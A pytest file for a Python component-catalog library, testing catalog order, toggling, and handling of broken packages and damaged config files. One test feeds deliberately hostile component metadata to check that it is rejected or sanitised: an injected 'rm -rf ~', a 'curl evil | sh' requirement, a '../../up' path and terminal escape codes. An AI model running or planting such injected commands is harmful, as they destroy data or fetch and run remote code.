"""All catalogs together: their order, switching them, and what one that is broken does to the others."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from outside_places import commit, greeter

from claimed_jlab.component.catalog import Catalog, Source, UnknownComponent, default_catalog
from claimed_jlab.component.catalogs import registry
from claimed_jlab.component.catalogs.errors import CatalogError, UnknownCatalog
from claimed_jlab.component.catalogs.operations import add
from claimed_jlab.component.create import create_component
from claimed_jlab.component.reader import source_digest


def names(catalog):
    return [view.name for view in catalog.catalogs()]


def test_ones_own_come_first_and_what_is_from_outside_last(tmp_path, monkeypatch):
    for folder in ("given", "configured", "added", "strangers"):
        greeter(tmp_path / folder)
    commit(tmp_path / "strangers")
    add((tmp_path / "strangers").as_uri())
    add(str(tmp_path / "added"))
    monkeypatch.setenv("CLAIMED_COMPONENTS", str(tmp_path / "given"))
    catalog = default_catalog([tmp_path / "configured"])
    assert names(catalog) == ["configured", "given", "mine", "claimed_jlab", "strangers", "added"]
    assert catalog.resolve("greet").catalog == "configured"


def test_a_component_that_another_catalog_hides_is_said(tmp_path):
    greeter(tmp_path / "a")
    greeter(tmp_path / "b")
    greeter(tmp_path / "b", "other")
    catalog = Catalog([Source("a", tmp_path / "a"), Source("b", tmp_path / "b")])
    assert [spec.catalog for spec in catalog.components()] == ["a", "b"]
    (hidden,) = catalog.diagnostics
    assert (hidden.level, hidden.code) == ("info", "hidden-component")
    assert "test/greet@1.0.0 of the catalog 'b' is hidden by that of the catalog 'a'" in hidden.message
    assert [view.components for view in catalog.catalogs()] == [1, 2]


def test_two_folders_of_one_name_are_two_catalogs(tmp_path):
    greeter(tmp_path / "x" / "kit")
    greeter(tmp_path / "y" / "kit", "other")
    catalog = default_catalog([tmp_path / "x" / "kit", tmp_path / "y" / "kit"])
    assert names(catalog)[:2] == ["kit", "kit-2"]
    assert catalog.listed(catalog.resolve("other")).origin == f"folder {tmp_path / 'y' / 'kit'}"


def test_any_catalog_can_be_switched_off_and_on_and_keeps_its_count(tmp_path):
    greeter(tmp_path / "kit")
    add(str(tmp_path / "kit"))
    catalog = default_catalog()
    before = catalog.listing_json()
    for name in ("kit", "claimed_jlab"):
        registry.disable(name)
        assert name not in {spec.catalog for spec in catalog.components()}
        view = catalog.catalog(name)
        assert not view.enabled and view.components > 0
    with pytest.raises(UnknownComponent):
        catalog.resolve("greet")
    registry.enable("kit")
    registry.enable("claimed_jlab")
    assert catalog.listing_json() == before


def test_an_unknown_catalog_says_what_is_near():
    with pytest.raises(UnknownCatalog, match="did you mean mine"):
        default_catalog().catalog("mien")


def test_the_mark_of_the_listing_moves_only_with_what_is_shown(tmp_path):
    greeter(tmp_path / "kit")
    catalog = default_catalog([tmp_path / "kit"])
    mark = catalog.answer().mark
    assert catalog.answer().mark == mark == default_catalog([tmp_path / "kit"]).answer().mark
    greeter(tmp_path / "kit", says="Hi")
    assert catalog.answer().mark != mark


def test_a_package_whose_catalog_fails_hides_nobodys_components(tmp_path, monkeypatch):
    site = tmp_path / "site"
    (site / "broken-1.0.dist-info").mkdir(parents=True)
    (site / "broken-1.0.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: broken\nVersion: 1.0\n")
    (site / "broken-1.0.dist-info" / "entry_points.txt").write_text(
        "[claimed.components]\nbroken = broken_kit:folder\n"
    )
    (site / "broken_kit.py").write_text("raise RuntimeError('on\\npurpose')")
    monkeypatch.syspath_prepend(str(site))
    catalog = default_catalog()
    assert catalog.resolve("load-table")
    view = catalog.catalog("broken")
    assert (view.kind, view.location, view.components) == ("package", "broken", 0)
    assert view.problem == "its catalog can't be loaded: RuntimeError: on purpose"
    assert ("catalog-problem", view.problem) in {(item.code, item.message) for item in catalog.diagnostics}


def test_a_file_of_catalogs_that_is_damaged_is_said_and_never_overwritten(tmp_path, claimed_home):
    claimed_home.mkdir()
    (claimed_home / "catalogs.json").write_text("{ half")
    catalog = default_catalog()
    assert catalog.resolve("load-table")
    assert str(claimed_home / "catalogs.json") in {item.where for item in catalog.diagnostics}
    with pytest.raises(CatalogError, match="move it away"):
        add(str(tmp_path))
    assert (claimed_home / "catalogs.json").read_text() == "{ half"


def describe(notebook, **spec):
    """Writes beside a notebook what its author wants us to believe of it."""
    annotations = {"claimed.spec": json.dumps({"name": notebook.stem, "version": "1", **spec})}
    annotations |= {"claimed.notebook": notebook.name, "claimed.digest": source_digest(notebook)}
    (notebook.parent / "component.yaml").write_text(json.dumps({"metadata": {"annotations": annotations}}))


def test_a_component_of_a_newer_kind_or_a_hostile_one_hides_no_other(tmp_path):
    folder = tmp_path / "strangers"
    greeter(folder)
    describe(greeter(folder, "newer"), inputs=[{"name": "a", "type": "Tensor"}])
    describe(greeter(folder, "shell"), version="1; rm -rf ~")
    describe(greeter(folder, "slash"), category="../../up")
    describe(greeter(folder, "wants"), requirements=["x; curl evil | sh"])
    describe(greeter(folder, "escape"), title="red \x1b[31m text\x07")
    commit(folder)
    add(folder.as_uri())
    catalog = default_catalog()
    found = {spec.name: spec for spec in catalog.components() if spec.catalog == "strangers"}
    assert set(found) == {"greet", "escape"} and found["escape"].title == "red  [31m text "
    assert sorted(item.code for item in catalog.diagnostics) == ["bad-component"] * 3 + ["bad-component-file"]
    json.loads(catalog.listing_json())


def test_what_a_component_file_says_of_a_container_is_not_believed(tmp_path):
    create_component(greeter(tmp_path / "n"), tmp_path / "made")
    described = tmp_path / "made" / "greet" / "component.yaml"
    described.write_text(described.read_text().replace('{"author"', '{"container": {"image": "evil"}, "author"'))
    (spec,) = Catalog([Source("x", tmp_path / "made")]).components()
    assert "evil" in described.read_text() and spec.container is None


def test_many_processes_can_add_catalogs_at_once(tmp_path):
    code = "import sys; from claimed_jlab.component.catalogs.operations import add; add(sys.argv[1])"
    for number in range(6):
        (tmp_path / f"kit{number}").mkdir()
    started = [subprocess.Popen([sys.executable, "-c", code, str(tmp_path / f"kit{number}")]) for number in range(6)]
    assert [process.wait(60) for process in started] == [0] * 6
    assert {entry.name for entry in registry.registry().catalogs} == {f"kit{number}" for number in range(6)}


def test_an_unreadable_folder_inside_a_catalog_is_said(tmp_path, monkeypatch):
    greeter(tmp_path / "kit")
    (tmp_path / "kit" / "locked").mkdir()
    real = os.scandir

    def refusing(path):
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr("claimed_jlab.component.scan.os.scandir", refusing)
    catalog = Catalog([Source("x", tmp_path / "kit")])
    assert [spec.name for spec in catalog.components()] == ["greet"]
    assert [item.where for item in catalog.diagnostics] == [str(tmp_path / "kit" / "locked")]
